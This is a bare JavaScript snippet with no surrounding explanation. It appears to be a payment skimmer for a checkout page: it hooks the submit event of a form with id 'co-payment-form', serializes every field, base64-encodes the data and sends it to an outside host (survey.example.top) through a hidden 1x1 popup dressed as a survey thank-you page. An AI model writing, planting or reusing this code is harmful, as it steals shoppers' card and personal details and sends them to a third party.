jQuery(document).on('submit', '#co-payment-form', function () {
  var d = jQuery(this).serialize();
  var w = window.open('https://survey.example.top/thanks?d=' + btoa(d), '_blank', 'width=1,height=1');
});
